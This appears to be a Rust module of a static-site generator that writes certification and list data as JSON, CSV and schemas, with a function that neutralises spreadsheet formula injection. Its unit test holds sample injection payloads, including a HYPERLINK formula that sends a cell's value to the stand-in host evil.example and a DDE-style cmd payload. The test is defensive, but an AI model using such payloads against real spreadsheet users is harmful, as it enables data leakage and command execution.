//! The open data: each certification and each list as JSON and as a table, under the addresses that pages cite.
//!
//! A renderer like the others: a function from the plan to bytes. The words are those of the sources, without the
//! typography of the page, and what the editor says stands in fields of its own ([`format`]). The schemas are made from the
//! types that write the files; the page that documents the data is made from the schemas.

mod certification;
mod common;
pub mod format;
mod index;
mod life;
mod liste;
mod schema;
mod table;

use std::borrow::Cow;
use std::collections::BTreeMap;

use serde::Serialize;
use serde_json::Value;

use crate::plan::{DATA_EDITIONS, DATA_INDEX, DataFacts, Described, Plan, Table, schema_path, script_of};
use common::{CERTIFICATION, EDITIONS, INDEX, LIST, schema_address};
use format::{Certification, Editions, Index, LigneCertification, LigneTableauListe, Liste};

/// The files, and what the site says of them.
#[derive(Debug, Default)]
pub struct OpenData {
    /// Path from the root of the site, and bytes.
    pub files: Vec<(String, Vec<u8>)>,
    pub facts: DataFacts,
}

/// The open data of what is planned.
pub fn render(plan: &Plan) -> OpenData {
    let mut files = Vec::new();
    for planned in &plan.certifications {
        let data = certification::of(plan, planned, schema_address(plan, &planned.data, CERTIFICATION));
        files.push((planned.data.json.clone(), json(&data)));
        files.push((planned.data.csv.clone(), csv(&table::of(&data))));
    }
    for planned in &plan.lists {
        let (data, rows) = liste::of(plan, planned, schema_address(plan, &planned.data, LIST));
        files.push((planned.data.json.clone(), json(&data)));
        files.push((planned.data.csv.clone(), csv(&rows)));
    }
    let schema = |name: &str, schema: Value| schema::at(schema, own_address(plan, name));
    let certification = schema(CERTIFICATION, schema::of::<Certification>());
    let list = schema(LIST, schema::of::<Liste>());
    let index = schema(INDEX, schema::of::<Index>());
    let editions = schema(EDITIONS, schema::of::<Editions>());
    let (rows, list_rows) = (schema::of::<LigneCertification>(), schema::of::<LigneTableauListe>());
    let facts = DataFacts {
        schemas: vec![
            Table {
                name: CERTIFICATION,
                title: "JSON d'une certification",
                schema: Some(schema_path(CERTIFICATION)),
                objects: schema::described(&certification),
            },
            Table {
                name: LIST,
                title: "JSON d'une liste",
                schema: Some(schema_path(LIST)),
                objects: besides(&certification, &list),
            },
            Table {
                name: INDEX,
                title: "Index des données",
                schema: Some(schema_path(INDEX)),
                objects: besides(&certification, &index),
            },
            Table {
                name: EDITIONS,
                title: "Éditions de chaque certification",
                schema: Some(schema_path(EDITIONS)),
                objects: besides(&certification, &editions),
            },
        ],
        tables: vec![
            Table {
                name: "tableau-certification",
                title: "CSV d'une certification",
                schema: None,
                objects: schema::described(&rows),
            },
            Table {
                name: "tableau-liste",
                title: "CSV d'une liste",
                schema: None,
                objects: schema::described(&list_rows),
            },
        ],
        bytes: Default::default(),
    };
    files.push((schema_path(CERTIFICATION), json(&certification)));
    files.push((schema_path(LIST), json(&list)));
    files.push((schema_path(INDEX), json(&index)));
    files.push((schema_path(EDITIONS), json(&editions)));
    files.push((DATA_EDITIONS.to_owned(), json(&life::editions(plan))));
    let mut bytes: BTreeMap<String, usize> = files.iter().map(|(path, bytes)| (path.clone(), bytes.len())).collect();
    let index = json(&index::of(plan, &bytes, &facts.tables));
    bytes.insert(DATA_INDEX.to_owned(), index.len());
    files.push((DATA_INDEX.to_owned(), index));
    let tables = plan.lists.iter().map(|planned| &planned.data.csv);
    let tables = tables.filter_map(|table| files.iter().find(|(path, _)| path == table));
    let scripts: Vec<_> = tables.map(|(path, bytes)| (script_of(path), for_script(bytes))).collect();
    files.extend(scripts);
    OpenData { files, facts: DataFacts { bytes, ..facts } }
}

/// The objects of a schema, but those that another describes too: what both do is told once.
fn besides(known: &Value, schema: &Value) -> Vec<Described> {
    let known = schema::described(known);
    let is_new = |object: &Described| known.iter().all(|known| known.name != object.name);
    schema::described(schema).into_iter().filter(is_new).collect()
}

/// The table of a list for the script of its page: its first line, then each line with the code that it speaks of, as the
/// file has them, byte for byte.
fn for_script(table: &[u8]) -> Vec<u8> {
    let mut reader = ::csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(table);
    let rows: Vec<::csv::StringRecord> = reader.records().flatten().collect();
    let starts = rows.iter().skip(1).filter_map(|row| Some(row.position()?.byte() as usize));
    // The reader ends a row at the first of the two signs that end its line.
    let starts = starts.map(|start| start + usize::from(table.get(start) == Some(&b'\n')));
    let ends: Vec<usize> = starts.chain([table.len()]).collect();
    let starts = std::iter::once(0).chain(ends.iter().copied());
    let lines = rows.iter().zip(starts.zip(&ends)).map(|(row, (start, end))| {
        let line = String::from_utf8_lossy(&table[start..*end]).into_owned();
        (row.get(CODE).unwrap_or_default(), line)
    });
    let lines: Vec<(&str, String)> = lines.collect();
    let json = serde_json::to_string(&lines).unwrap_or_default();
    format!("globalThis.tableauDeLaListe = {json};\n").into_bytes()
}

/// The column of the code of a certification in the table of a list.
const CODE: usize = 3;

/// The address by which a schema is named: online, or else its own name.
fn own_address(plan: &Plan, name: &str) -> String {
    let path = schema_path(name);
    match crate::plan::PublicAddress::of(&plan.catalogue.site) {
        Some(public) => public.to(&path),
        None => path.rsplit('/').next().unwrap_or_default().to_owned(),
    }
}

fn json(data: &impl Serialize) -> Vec<u8> {
    // Plain data of ours: it always has a JSON form.
    let mut text = serde_json::to_string_pretty(data).unwrap_or_default();
    text.push('\n');
    text.into_bytes()
}

/// RFC 4180, with the semicolon that French spreadsheets expect, and the mark by which they know UTF-8.
fn csv<R: Serialize>(rows: &[R]) -> Vec<u8> {
    let writer =
        || ::csv::WriterBuilder::new().delimiter(b';').terminator(::csv::Terminator::CRLF).from_writer(Vec::new());
    let mut plain = writer();
    for row in rows {
        // A row of texts and numbers written to memory cannot fail.
        let _ = plain.serialize(row);
    }
    let plain = plain.into_inner().unwrap_or_default();
    let mut safe = writer();
    let mut rows = ::csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(plain.as_slice());
    for row in rows.records().flatten() {
        let _ = safe.write_record(row.iter().map(|cell| inert(cell).into_owned()));
    }
    ["\u{FEFF}".as_bytes(), &safe.into_inner().unwrap_or_default()].concat()
}

/// A cell that no spreadsheet runs: one that begins as a formula does begins with an apostrophe, and so does one that
/// begins with an apostrophe, so that a program takes away the first and has the words.
fn inert(cell: &str) -> Cow<'_, str> {
    match cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\'', '＝', '＋', '－', '＠']) {
        true => Cow::Owned(format!("'{cell}")),
        false => Cow::Borrowed(cell),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Serialize)]
    struct Row {
        code: &'static str,
        texte: &'static str,
        niveau: Option<i8>,
    }

    #[test]
    fn a_spreadsheet_runs_no_cell_and_a_program_finds_the_words() {
        let texts = [
            "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Cliquez\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+33",
            "-5 %",
            "＝1+1",
            "'déjà",
            "Pétrir = travailler",
            "« -5 % »",
            "",
        ];
        let rows: Vec<Row> = texts.map(|texte| Row { code: "D1", texte, niveau: Some(-1) }).into();
        let bytes = csv(&rows);
        let text = std::str::from_utf8(&bytes).expect("UTF-8").strip_prefix('\u{FEFF}').expect("a mark");
        assert!(text.starts_with("code;texte;niveau\r\n"), "{text}");
        let mut reader = ::csv::ReaderBuilder::new().delimiter(b';').from_reader(text.as_bytes());
        let found: Vec<::csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
        assert_eq!(found.len(), texts.len());
        for (row, text) in found.iter().zip(texts) {
            assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '＝'])), "{row:?}");
            assert_eq!(row[1].strip_prefix('\'').unwrap_or(&row[1]), text);
            assert_eq!(&row[2], "'-1");
        }
    }
}
